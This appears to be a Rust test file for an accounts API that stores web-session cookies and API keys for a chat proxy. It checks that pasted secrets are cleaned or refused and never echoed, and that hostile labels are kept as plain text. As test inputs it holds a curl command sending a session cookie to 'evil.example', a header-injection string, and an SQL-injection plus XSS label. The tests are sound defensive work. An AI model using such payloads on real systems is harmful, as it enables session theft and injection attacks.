//! Tests of `accounts.…`.

use serde_json::{Value, json};

use super::{account, bad, command, demo, demo_with_terms, good};
use crate::support::{Options, Program, TestEnv, question, simulator};

/// A web cookie that no account of the demo's mock has.
const NEW_SESSION: &str = "demo-session-of-somebody-else";

async fn labels(program: &Program) -> Vec<String> {
    let accounts = good(program, "accounts.list", json!({})).await;
    accounts.as_array().unwrap().iter().map(|account| account["label"].as_str().unwrap().to_owned()).collect()
}

#[tokio::test]
async fn the_first_web_session_needs_the_terms_and_a_key_does_not() {
    let program = demo().await;
    assert_eq!(bad(&program, "accounts.add", json!({ "secret": NEW_SESSION })).await, "terms");
    assert_eq!(bad(&program, "accounts.import", json!({ "text": "COOKIES=x" })).await, "terms");
    let key = json!({ "kind": "api", "label": "my key", "secret": "Bearer sk-nobody-0123456789" });
    assert_eq!(bad(&program, "accounts.add", key).await, "upstream", "it is asked, without the terms");
    good(&program, "settings.accept_terms", json!({})).await;
    assert_eq!(
        bad(&program, "accounts.add", json!({ "secret": NEW_SESSION })).await,
        "upstream",
        "asked before it is kept"
    );
}

#[tokio::test]
async fn g05_what_is_pasted_is_cleaned_or_refused_and_never_echoed() {
    let program = demo_with_terms().await;
    let before = labels(&program).await;
    let long = "CANARY".repeat(2_000);
    for secret in [
        "CANARY\r\nset-cookie: x",
        "CANARY value",
        "CANARÝ",
        "other=CANARY",
        "Cookie: other=CANARY",
        r#"[{"name":"auth_session","domain":"evil.example","value":"CANARY"}]"#,
        "evil.example\tFALSE\t/\tTRUE\t0\tauth_session\tCANARY",
        "curl 'https://evil.example/' -H 'Cookie: auth_session=CANARY'",
        &long,
    ] {
        let answer = command(&program, "accounts.add", json!({ "label": "new", "secret": secret })).await;
        assert_eq!(answer.error(), (400, "bad_arguments".into()), "{secret}");
        assert!(!String::from_utf8_lossy(&answer.body).contains("CANAR"), "{:?}", answer.body);
    }
    assert_eq!(labels(&program).await, before, "nothing was stored");
    assert!(!program.log().contains("CANAR"));
}

#[tokio::test]
async fn g05_a_cookie_of_a_known_account_is_merged_with_it() {
    let simulator = simulator(&["alice"]).await;
    let cookie = simulator.cookies()[0].1.clone();
    let keys = tempfile::tempdir().unwrap();
    let options = Options::default()
        .settings("secret_store = \"file\"")
        .env("SECRET_KEY_FILE", keys.path().join("key").display().to_string())
        .env("MAMMOUTH_WEB_URL", simulator.base_url());
    let program = Program::start_in(tempfile::tempdir().unwrap(), None, options).await;
    let ask = async |name: &str, args: Value| program.control(name, &args).await;
    ask("settings.accept_terms", json!({})).await;
    let pasted = json!([{ "name": "auth_session", "domain": "127.0.0.1", "value": cookie }]).to_string();
    let added = ask("accounts.add", json!({ "secret": pasted })).await;
    assert_eq!((added.status, &added.json()["label"]), (200, &json!("alice")), "{:?}", added.body);
    assert_eq!(added.json()["email"], "alice@simulator.invalid");
    let again = ask("accounts.add", json!({ "label": "second", "secret": cookie })).await.json();
    assert_eq!((&again["label"], &again["ok"]), (&json!("alice"), &json!(true)));
    let imported =
        ask("accounts.import", json!({ "text": format!("PORT=1\nCOOKIES={cookie}\n") })).await.json();
    assert_eq!(imported[0]["label"], "alice");
    assert_eq!(ask("accounts.list", json!({})).await.json().as_array().unwrap().len(), 1);
    assert_eq!(program.chat(&question("hi")).await.header("x-mammouth-account"), Some("alice"));

    let replaced = ask("accounts.replace", json!({ "label": "alice", "secret": cookie })).await;
    assert_eq!((replaced.status, &replaced.json()["ok"]), (200, &json!(true)));
    ask("accounts.rename", json!({ "label": "alice", "to": "mine" })).await;
    let records = ask("log.latest", json!({ "account": "mine" })).await.json();
    assert_eq!(records[0]["account"], "mine", "the log follows");
    assert_eq!(program.chat(&question("hi")).await.header("x-mammouth-account"), Some("mine"));
    let settings = std::fs::read_to_string(program.dir.path().join("settings.toml")).unwrap();
    assert!(settings.contains("mine") && !settings.contains(&cookie), "{settings}");
    assert_eq!(ask("accounts.remove", json!({ "label": "mine" })).await.status, 200);
    assert_eq!(ask("accounts.list", json!({})).await.json(), json!([]));
}

#[tokio::test]
async fn order_names_and_the_pinned_account_survive_a_restart() {
    let env = TestEnv::new(&["alice", "bob", "carol"]).await;
    let refused = async |name: &str, args: Value| env.program.control(name, &args).await.error().1;
    env.control("accounts.rename", &json!({ "label": "web-3", "to": "the last" })).await;
    assert_eq!(refused("accounts.rename", json!({ "label": "web-1", "to": "the last" })).await, "exists");
    assert_eq!(refused("accounts.rename", json!({ "label": "nobody", "to": "x" })).await, "not_found");
    env.control("accounts.order", &json!({ "labels": ["the last"] })).await;
    env.control("accounts.only", &json!({ "label": "the last" })).await;
    assert_eq!(refused("accounts.order", json!({ "labels": ["nobody"] })).await, "not_found");
    let env = env.restart().await;
    let accounts = env.accounts().await;
    assert_eq!((&accounts[0]["label"], &accounts[0]["only"]), (&json!("the last"), &json!(true)));
    assert_eq!(env.program.chat(&question("hi")).await.header("x-mammouth-account"), Some("the last"));
    let explained = env.control("accounts.explain", &json!({ "model": "gpt-4.1" })).await;
    assert_eq!(explained["account"], "the last");
    assert_eq!(explained["others"][0]["why"]["what"], "other_alone", "{explained}");
    env.control("accounts.only", &json!({ "label": null })).await;
    assert_eq!(env.accounts().await[0]["only"], false);
    env.assert_no_protocol_error();
}

#[tokio::test]
async fn l11_a_hostile_label_is_a_label() {
    let program = demo().await;
    let hostile = "'; DROP TABLE requests;--<img src=x onerror=1>";
    let first = labels(&program).await[0].clone();
    good(&program, "accounts.rename", json!({ "label": first, "to": hostile })).await;
    assert_eq!(account(&program, hostile).await["label"], hostile);
    good(&program, "accounts.only", json!({ "label": hostile })).await;
    assert_eq!(program.chat(&question("hi")).await.status, 200);
    assert_eq!(good(&program, "log.count", json!({ "account": hostile })).await, 1);
    for label in ["", " x", "a\nb", &"x".repeat(65)] {
        assert_eq!(
            bad(&program, "accounts.rename", json!({ "label": hostile, "to": label })).await,
            "bad_arguments"
        );
    }
}
